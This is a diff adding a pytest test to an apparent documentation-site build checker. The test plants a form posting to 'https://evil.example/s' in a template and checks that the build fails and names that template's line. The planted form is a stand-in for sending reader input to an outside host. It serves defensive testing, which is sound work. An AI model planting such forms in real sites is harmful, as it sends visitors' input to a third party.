@@ -186,3 +186,22 @@ def test_a_page_setting_outside_the_content_fails_the_build(tmp_path):
     )
     assert len(re.findall(message, result.stderr)) == 1 and "site/404.html" not in result.stderr, result.stderr
     assert "hint: pages never change their own settings" in result.stderr
+
+
+def test_a_form_in_a_template_is_named_in_that_template_not_the_404_pages_own_form(tmp_path):
+    """A review: a form sending to another website in overrides/main.html was reported at the
+    404 page's own search form, whose `action=` came first."""
+    project = project_copy(tmp_path).parent
+    template = project / "overrides" / "main.html"
+    text = template.read_text(encoding="utf-8")
+    template.write_text(
+        text.replace("{% block footer %}", '{% block footer %}<form action="https://evil.example/s"></form>', 1),
+        encoding="utf-8",
+    )
+    line = next(i for i, t in enumerate(template.read_text(encoding="utf-8").splitlines(), 1) if "evil.example" in t)
+    result = build_in_process(project / "mkdocs.yml", tmp_path / "site", env={"TOOLKIT_PDF": "0"})
+    assert result.returncode != 0
+    assert f"overrides/main.html:{line}: <form action=...> is an address that what a reader does is sent to" in (
+        result.stderr
+    ), result.stderr
+    assert "overrides/404.html" not in result.stderr
